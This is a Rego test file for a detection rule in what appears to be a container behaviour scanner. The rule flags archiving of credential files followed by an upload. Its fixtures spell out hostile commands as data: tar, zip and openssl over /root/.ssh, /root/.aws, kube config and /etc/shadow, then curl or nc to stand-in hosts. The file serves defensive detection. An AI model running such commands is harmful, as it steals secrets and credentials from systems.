package sallyport.behaviours.collection_exfiltration["archive-upload_test"]

import data.sallyport.behaviours.collection_exfiltration["archive-upload"] as rule
import data.sallyport.fixture as f

flow := f.flow("31.0", "198.19.0.4", 443, {"app": "http", "domain": "upload.example", "first_ms": 600})

post(parts) := f.request(flow, "POST", "/", object.union({"ms": 600, "body": "--b", "headers": {"Content-Type": "multipart/form-data; boundary=b"}}, parts))

run(packer, requests, image) := f.observation({
	"image": image,
	"processes": [f.process(30, packer, {}), f.process(31, ["/usr/bin/curl", "-F", "file=@/tmp/x.tgz", "https://upload.example/"], {})],
	"flows": [flow],
	"http": requests,
})

test_packed_and_sent if {
	every packer in [
		["/bin/tar", "czf", "/tmp/x.tgz", "/root/.aws", "/root/.ssh"],
		["/usr/bin/zip", "-r", "/tmp/x.zip", "/root/.kube/config"],
		["/usr/bin/openssl", "enc", "-aes-256-cbc", "-in", "/etc/shadow", "-out", "/tmp/x"],
	] {
		found := rule.finding with input as run(packer, [post({})], {})
		f.malicious(found)
		f.pointed(found)
	}
}

test_raw_archive if {
	found := rule.finding with input as f.observation({
		"processes": [f.process(30, ["/bin/tar", "cz", "/root/.ssh"], {}), f.process(31, ["/bin/nc", "203.0.113.9", "9"], {})],
		"flows": [f.flow("31.0", "203.0.113.9", 9, {"first_ms": 600, "out": `\x1f\x8b\x08\x00`})],
	})
	f.malicious(found)
}

# A backup has a place to go to that somebody configured.
test_backup_is_no_proof if {
	found := rule.finding with input as run(["/bin/tar", "czf", "/tmp/x.tgz", "/root/.ssh"], [post({})], {"env": ["BACKUP_URL=https://upload.example/"]})
	count(found) == 1
	not f.malicious(found)
}

test_not_other_files_or_without_upload if {
	count(rule.finding) == 0 with input as run(["/bin/tar", "czf", "/tmp/x.tgz", "/srv/www"], [post({})], {})
	count(rule.finding) == 0 with input as run(["/bin/tar", "czf", "/tmp/x.tgz", "/root/.ssh"], [], {})
	count(rule.finding) == 0 with input as run(["/bin/tar", "czf", "/tmp/x.tgz", "/root/.ssh"], [post({"body": "{}", "headers": {"Content-Type": "application/json"}})], {})
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	found := rule.finding with input as data.observations["archive-upload.keys"]
	f.malicious(found)
	f.pointed(found)
}

test_not_recorded if {
	every name in ["archive-upload.web-files", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
